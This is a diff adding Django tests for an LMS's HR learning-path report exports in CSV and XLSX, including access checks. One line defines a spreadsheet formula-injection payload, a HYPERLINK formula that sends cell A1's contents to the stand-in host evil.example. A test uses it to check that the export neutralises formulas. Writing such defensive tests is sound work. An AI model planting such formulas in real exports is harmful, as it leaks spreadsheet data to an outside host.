@@ -1,11 +1,17 @@
 """HR's report per learning path: the people with a required course of the path within the viewer's part
 of the group, how many completed the whole path; others may not open it."""
 
+import csv
+import io
+
 import pytest
 from django.urls import reverse
+from django.utils import translation
+from openpyxl import load_workbook
 
-from lms.courses.models import Enrolment
-from lms.paths.selectors import path_report
+from lms.courses.models import CoursePage, Enrolment
+from lms.paths.admin_views import PathReportSpreadsheet
+from lms.paths.selectors import path_course_pages, path_report
 from tests.certificates.factories import complete, make_learner
 from tests.factories import OrgUnitFactory, PersonFactory, hr_user
 from tests.helpers import status_and_location
@@ -13,6 +19,7 @@ from tests.helpers import status_and_location
 from .factories import make_chain, make_path
 
 pytestmark = pytest.mark.django_db
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klick")'
 
 
 @pytest.fixture
@@ -56,3 +63,36 @@ def test_a_scoped_viewer_sees_only_their_part(world, client):
 def test_a_learner_may_not_open_it(world, client):
     client.force_login(make_learner(username="elev").user)
     assert status_and_location(client.get(reverse("paths_report"))) == (302, "/admin/login/")
+
+
+def csv_rows(response) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
+def test_the_csv_export_within_the_viewers_part_safe_from_formulas(world, client):
+    path, here = world
+    first = path_course_pages(path=path)[0]
+    CoursePage.objects.filter(pk=first.pk).update(title=HYPERLINK)
+    client.force_login(hr_user(scope=here))
+    page = client.get(reverse("paths_report"))
+    assert 'href="?export=csv"' in page.content.decode()
+    response = client.get(reverse("paths_report"), {"export": "csv"})
+    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
+    assert 'filename="learning-paths.csv"' in response["Content-Disposition"]
+    with translation.override("sv"):
+        heading = [str(h) for _name, h in PathReportSpreadsheet.export_columns]
+    assert csv_rows(response) == [
+        heading,
+        ["Väg", "1", "'" + HYPERLINK, "2", "2", "100", ""],
+        ["Väg", "2", "Kurs 2", "2", "1", "50", ""],
+        ["Väg", "", "Hela vägen", "2", "1", "50", "1"],
+    ]
+
+
+def test_the_xlsx_export_and_no_export_for_a_learner(world, client):
+    client.force_login(hr_user())
+    response = client.get(reverse("paths_report"), {"export": "xlsx"})
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    assert [c.value for c in sheet[4]] == ["Väg", None, "Hela vägen", 3, 2, 67, 2]
+    client.force_login(make_learner(username="elev").user)
+    assert status_and_location(client.get(reverse("paths_report"), {"export": "csv"})) == (302, "/admin/login/")
